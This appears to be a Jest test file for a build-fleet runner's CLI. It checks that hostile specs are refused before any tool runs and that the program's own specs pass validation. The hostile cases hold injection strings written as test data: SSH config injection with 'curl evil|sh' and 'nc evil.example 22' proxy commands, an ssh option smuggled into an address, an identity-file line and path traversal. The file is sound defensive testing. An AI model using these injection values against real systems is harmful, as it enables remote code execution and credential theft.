// The runner's entry points check their spec (runner/specs.ts) whatever the config layer
// checked: hostile specs fed to the real runner/cli.ts are refused before anything runs, and
// every spec the program's own components write is accepted.

import { execFile, spawnSync } from "child_process";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import * as pulumi from "@pulumi/pulumi";
import { Fleet } from "../components/fleet";
import { parseConfig } from "../config/schema";
import { ssmProxyCommand } from "../runner/readinessSteps";
import { attestSpecBytes, smokeTestSpecBytes } from "../config/sizes";
import {
    ensureInputSchema,
    indexExpectationSchema,
    parseSpec,
    readinessSpecSchema,
    smokeTestSpecSchema,
} from "../runner/specs";
import { compileModules } from "./compiled";
import { context, makeProject, validConfig } from "./fixtures";
import { ED25519_HOST } from "./keyFixtures";
import { installMocks, settled, unwrapSecrets, valueOf } from "./mocks";

const mocks = installMocks();
const DIGEST = `sha256:${"a".repeat(64)}`;

const readiness = () => ({
    target: { address: "192.0.2.20", port: 22, user: "Builder", hostKey: ED25519_HOST, hostKeyAlias: "static-rack-1" },
    connectTimeoutSeconds: 60,
    persistentFaultSeconds: 0,
    steps: [{ name: "docker-check", script: "docker info\n", args: ["x"] }],
});
const node = () => ({
    host: "rack-1",
    node: "fleet-rack-1",
    alias: "rack-1.fleet.invalid",
    address: "192.0.2.20",
    port: 22,
    user: "builder",
    hostKey: ED25519_HOST,
    hostKeyAlias: "static-rack-1",
    platforms: ["linux/arm64"],
    stackPlatforms: ["linux/arm64"],
    driverOptions: { "env.BUILDKIT_STEP_LOG_MAX_SIZE": "10485760" },
});
const ensure = () => ({
    spec: { name: "fleet", owner: "native-build-fleet/dev", nodes: [node()] },
    privateKey: "-----BEGIN OPENSSH PRIVATE KEY-----\nk\n-----END OPENSSH PRIVATE KEY-----\n",
});
const smoke = () => ({
    registry: "127.0.0.1:5000",
    tests: [
        {
            builder: "fleet-rack-1",
            platform: "linux/arm64",
            ref: `127.0.0.1:5000/ci/app@${DIGEST}`,
            command: ["uname", "-m"],
            expect: { lines: ["aarch64"] },
        },
    ],
});
const index = () => ({
    registry: "127.0.0.1:5000",
    refs: [`127.0.0.1:5000/ci/app:latest@${DIGEST}`],
    platforms: { "linux/arm64": DIGEST },
});

type Mode = "readiness" | "register" | "smoke-test" | "verify-index";
/** [name, mode, spec after a hostile change, key path and message fragment]. */
type Case = [string, Mode, unknown, string];

/** `make()` with the value at `keyPath` (keys and list indexes joined by dots) replaced by `value`. */
function withValue<T>(make: () => T, keyPath: string, value: unknown): T {
    return changed(make, (v) => {
        const keys = keyPath.split(".");
        const last = keys.pop()!;
        keys.reduce((at, key) => at[key], v)[last] = value;
    });
}

function changed<T>(make: () => T, change: (v: any) => void): T {
    const value = make();
    change(value);
    return value;
}

const hostile: Case[] = [
    [
        "a newline and a Host block in the address",
        "readiness",
        withValue(readiness, "target.address", "192.0.2.20\nHost *\n  ProxyCommand sh -c 'curl evil|sh'"),
        'target.address: "192.0.2.20\nHost *',
    ],
    [
        "an address that is an ssh option",
        "readiness",
        withValue(readiness, "target.address", "-oProxyCommand=touch"),
        "target.address: \"-oProxyCommand=touch\" starts with '-'",
    ],
    [
        "a newline in the user",
        "readiness",
        withValue(readiness, "target.user", "builder\nHost *"),
        "target.user: must be a Linux user name",
    ],
    [
        "a newline in the host key alias",
        "readiness",
        withValue(readiness, "target.hostKeyAlias", "i-0abc\n  ProxyCommand x"),
        "target.hostKeyAlias: must be letters, digits",
    ],
    [
        "a proxy command of someone else's",
        "readiness",
        withValue(readiness, "target.proxyCommand", "sh -c 'curl evil | sh'"),
        "target.proxyCommand: must be the program's SSM session command",
    ],
    [
        "the SSM proxy command with a block after it",
        "readiness",
        withValue(readiness, "target.proxyCommand", `${ssmProxyCommand("eu-north-1")}\nHost *`),
        "target.proxyCommand: must be the program's SSM session command",
    ],
    [
        "two host key lines",
        "readiness",
        withValue(readiness, "target.hostKey", `${ED25519_HOST}\n${ED25519_HOST}`),
        "target.hostKey: must be one OpenSSH public key line",
    ],
    ["port 0", "readiness", withValue(readiness, "target.port", 0), "target.port:"],
    [
        "a NUL in a script argument",
        "readiness",
        withValue(readiness, "steps.0.args", ["a\0b"]),
        "steps.0.args.0: must not contain NUL bytes",
    ],
    [
        "a key the spec does not have",
        "readiness",
        withValue(readiness, "target.identityFile", "/root/.ssh/id_rsa"),
        "target: Unrecognized key",
    ],
    [
        "a Host block in a node's alias",
        "register",
        withValue(ensure, "spec.nodes.0.alias", "rack-1.fleet\nHost *"),
        "spec.nodes.0.alias: must be letters, digits",
    ],
    [
        "an ssh pattern as a node's alias",
        "register",
        withValue(ensure, "spec.nodes.0.alias", "*"),
        "spec.nodes.0.alias: must be letters, digits",
    ],
    [
        "a newline in a node's address",
        "register",
        withValue(ensure, "spec.nodes.0.address", "192.0.2.20\n  IdentityFile ~/.ssh/id_rsa"),
        "spec.nodes.0.address: ",
    ],
    [
        "a newline in a node's user",
        "register",
        withValue(ensure, "spec.nodes.0.user", "b\nHost *"),
        "spec.nodes.0.user: must be a Linux user name",
    ],
    [
        "a node proxy command of someone else's",
        "register",
        withValue(ensure, "spec.nodes.0.proxyCommand", "nc evil.example 22"),
        "spec.nodes.0.proxyCommand: must be the program's SSM session command",
    ],
    [
        "a comma in a driver option",
        "register",
        withValue(ensure, "spec.nodes.0.driverOptions", { network: "host,image=evil" }),
        "spec.nodes.0.driverOptions.network: must not contain commas",
    ],
    [
        "a newline in the owner",
        "register",
        withValue(ensure, "spec.owner", "a/b\nc"),
        "spec.owner: must be <project>/<stack> on one line",
    ],
    [
        "a builder name with a path in it",
        "register",
        withValue(ensure, "spec.name", "../../etc"),
        "spec.name: must be lowercase letters",
    ],
    [
        "a smoke-test ref without a digest",
        "smoke-test",
        withValue(smoke, "tests.0.ref", "127.0.0.1:5000/ci/app:latest"),
        "tests.0.ref: must be <repository>@sha256:<digest>",
    ],
    [
        "a registry with a newline",
        "smoke-test",
        withValue(smoke, "registry", "127.0.0.1:5000\n"),
        "registry: must be a registry host[:port]",
    ],
    [
        "an index digest that is no digest",
        "verify-index",
        withValue(index, "platforms.linux/arm64", "latest"),
        "platforms.linux/arm64: must be a sha256 digest",
    ],
    [
        "an index ref without a tag",
        "verify-index",
        withValue(index, "refs", [`127.0.0.1:5000/ci/app@${DIGEST}`]),
        "refs.0: must be <repository>:<tag>@sha256:<digest>",
    ],
];

/** A PATH of its own whose ssh, docker and aws only record that they ran, in `ran`. */
function stubBin(): { bin: string; ran: string } {
    const bin = fs.mkdtempSync(path.join(os.tmpdir(), "nbf-spec-bin-"));
    const ran = path.join(bin, "ran");
    for (const tool of ["ssh", "docker", "aws", "ssh-keygen"]) {
        fs.writeFileSync(path.join(bin, tool), `#!/bin/sh\necho ${tool} >> ${ran}\nexit 1\n`, { mode: 0o755 });
    }
    return { bin, ran };
}

/** The runner compiled with run.js's options (test/compiled.ts), once: a ts-node start per case takes seconds. */
let built = "";
let cli = "";
beforeAll(() => {
    built = compileModules(["runner/cli.ts"]);
    cli = path.join(built, "runner", "cli.js");
});
afterAll(() => fs.rmSync(built, { recursive: true, force: true }));

interface Outcome {
    status: number | null;
    stderr: string;
    ran: boolean;
}

/** Runs the entry point in `mode` with a stub PATH of its own; resolves once it exited. */
function runCli(mode: Mode, spec: unknown): Promise<Outcome> {
    const viaStdin = mode === "register";
    const { bin, ran } = stubBin();
    return new Promise((resolve, reject) => {
        const child = execFile(
            process.execPath,
            [cli, mode],
            {
                encoding: "utf8",
                timeout: 60000,
                env: {
                    PATH: `${bin}${path.delimiter}${path.dirname(process.execPath)}`,
                    HOME: bin,
                    ...(viaStdin ? {} : { NBF_SPEC: JSON.stringify(spec) }),
                },
            },
            (error, _stdout, stderr) => {
                const toolRan = fs.existsSync(ran);
                fs.rmSync(bin, { recursive: true, force: true });
                if (error && typeof error.code !== "number") {
                    reject(new Error(`the runner did not exit by itself: ${error.message}`));
                    return;
                }
                resolve({ status: error ? Number(error.code) : 0, stderr, ran: toolRan });
            },
        );
        child.stdin?.end(viaStdin ? JSON.stringify(spec) : "ci:password");
    });
}

describe("the real entry point refuses a hostile spec before running anything", () => {
    // Every case in its own process at once: each start loads the runner and zod, which took
    // about 0.6 s a case one after another on a loaded machine.
    const outcomes = new Map<string, Outcome>();
    beforeAll(async () => {
        await Promise.all(hostile.map(async ([name, mode, spec]) => outcomes.set(name, await runCli(mode, spec))));
    }, 60000);

    test.each(hostile.map((c): [string, Case] => [c[0], c]))("%s", (_, [name, mode, , fragment]) => {
        const { status, stderr, ran } = outcomes.get(name)!;
        expect(status).toBe(1);
        expect(stderr).toContain(
            `${mode === "register" ? "standard input" : "NBF_SPEC"} is refused, so nothing was run: `,
        );
        expect(stderr).toContain(fragment);
        expect(ran).toBe(false);
    });

    test("standard input that is not JSON is refused without repeating it", () => {
        const { bin } = stubBin();
        const result = spawnSync(process.execPath, [cli, "register"], {
            encoding: "utf8",
            input: "-----BEGIN OPENSSH PRIVATE KEY-----\nsecret-key-material",
            env: { PATH: bin },
        });
        fs.rmSync(bin, { recursive: true, force: true });
        expect(result.status).toBe(1);
        expect(result.stderr).toContain("standard input is not JSON");
        expect(result.stderr).not.toContain("secret-key-material");
    });
});

describe("the specs are well-formed as written here", () => {
    test.each([
        ["readiness", readinessSpecSchema, readiness()],
        [
            "readiness through SSM",
            readinessSpecSchema,
            changed(readiness, (s) => {
                s.target.address = "i-0123456789abcdef0";
                s.target.proxyCommand = ssmProxyCommand("eu-north-1");
            }),
        ],
        ["register", ensureInputSchema, ensure()],
        [
            "a host key whose comment follows a tab",
            readinessSpecSchema,
            withValue(readiness, "target.hostKey", `${ED25519_HOST.split(" ").slice(0, 2).join(" ")}\troot@rack-1`),
        ],
        [
            "register with idle hosts in a new partition",
            ensureInputSchema,
            withValue(ensure, "spec.wake", { instanceIds: ["i-0123456789abcdef0"], region: "eusc-de-east-1" }),
        ],
        ["smoke-test", smokeTestSpecSchema, smoke()],
        ["verify-index", indexExpectationSchema, index()],
    ] as [string, any, unknown][])("%s", (_, schema, spec) => {
        expect(parseSpec(schema, JSON.stringify(spec), "NBF_SPEC")).toMatchObject({ ok: true });
    });
});

describe("every spec the program's components write is accepted", () => {
    const root = makeProject();
    const raw = validConfig() as Record<string, any>;
    raw.staticHosts = [
        {
            name: "rack-1",
            address: "2001:db8::20",
            user: "Builder",
            platforms: ["linux/arm64"],
            hostKey: ED25519_HOST,
            driverOptions: { "cpuset-cpus": "0-3" },
        },
    ];
    raw.images[0].test = { command: ["/app", "--version"], expect: "ok on {{platform}}" };
    raw.images[0].buildArgs = { VERSION: "1.4.0" };
    raw.images[0].platformBuildArgs = { "linux/arm64": { GOARM64: "v8.2" } };
    raw.signing = { mode: "kms", key: "awskms:///alias/release-signing" };
    const config = parseConfig(raw, context(root));
    beforeAll(async () => {
        const fleet = new Fleet("fleet", {
            config,
            project: "native-build-fleet",
            stack: "dev",
            sshPrivateKey: pulumi.secret("-----BEGIN OPENSSH PRIVATE KEY-----\nk\n-----END OPENSSH PRIVATE KEY-----\n"),
            labels: {},
        });
        await valueOf(fleet.images);
        await settled(mocks.resources);
    });
    const commands = () => mocks.resources.filter((r) => r.type === "command:local:Command");

    test("readiness, smoke-test and verify-index specs", () => {
        const schemas: Record<string, any> = {
            readiness: readinessSpecSchema,
            "smoke-test": smokeTestSpecSchema,
            "verify-index": indexExpectationSchema,
        };
        const checked = commands().flatMap((c) => {
            const mode = /cli\.js ([a-z-]+)$/.exec(String(c.inputs.create))?.[1] ?? "";
            const spec = unwrapSecrets(c.inputs.environment)?.NBF_SPEC as string | undefined;
            return schemas[mode] && spec ? [[c.name, parseSpec(schemas[mode], spec, "NBF_SPEC")]] : [];
        });
        expect(checked.length).toBeGreaterThanOrEqual(5);
        expect(checked.filter(([, result]) => !(result as { ok: boolean }).ok)).toEqual([]);
    });

    test("config/sizes.ts's bound on the smoke test's NBF_SPEC is at least what the component writes", () => {
        const smoke = commands().filter((c) => /cli\.js smoke-test$/.test(String(c.inputs.create)));
        expect(smoke.length).toBe(1);
        const written =
            "NBF_SPEC=".length + Buffer.byteLength(String(unwrapSecrets(smoke[0].inputs.environment).NBF_SPEC)) + 1;
        const host = "r".repeat(63);
        expect(written).toBeLessThanOrEqual(
            smokeTestSpecBytes(config.images[0], `${host}/${config.images[0].name}`, host),
        );
    });

    test("config/sizes.ts's bound on the sign step's NBF_SPEC is at least what the component writes", () => {
        const sign = commands().filter((c) => /cli\.js attest$/.test(String(c.inputs.create)));
        expect(sign.length).toBe(1);
        const written =
            "NBF_SPEC=".length + Buffer.byteLength(String(unwrapSecrets(sign[0].inputs.environment).NBF_SPEC)) + 1;
        const host = "r".repeat(63);
        const bound = attestSpecBytes(config.images[0], {
            signing: config.signing!,
            stack: "native-build-fleet/dev",
            builderName: config.builder.name,
            repository: `${host}/${config.images[0].name}`,
            registryHost: host,
        });
        expect(written).toBeLessThanOrEqual(bound);
        // The bound allows for what only a run knows (hosts, the source URL, the test output), and no more.
        expect(bound - written).toBeLessThan(32 * 1024);
    });

    test("the builders' standard input", () => {
        const inputs = commands().filter((c) =>
            /cli\.js (preview|update|register)$/.test(String(c.inputs.create ?? c.inputs.update ?? "")),
        );
        expect(inputs.length).toBeGreaterThanOrEqual(1);
        for (const c of inputs) {
            expect([
                c.name,
                parseSpec(ensureInputSchema, String(unwrapSecrets(c.inputs.stdin)), "standard input"),
            ]).toEqual([c.name, expect.objectContaining({ ok: true })]);
        }
    });
});
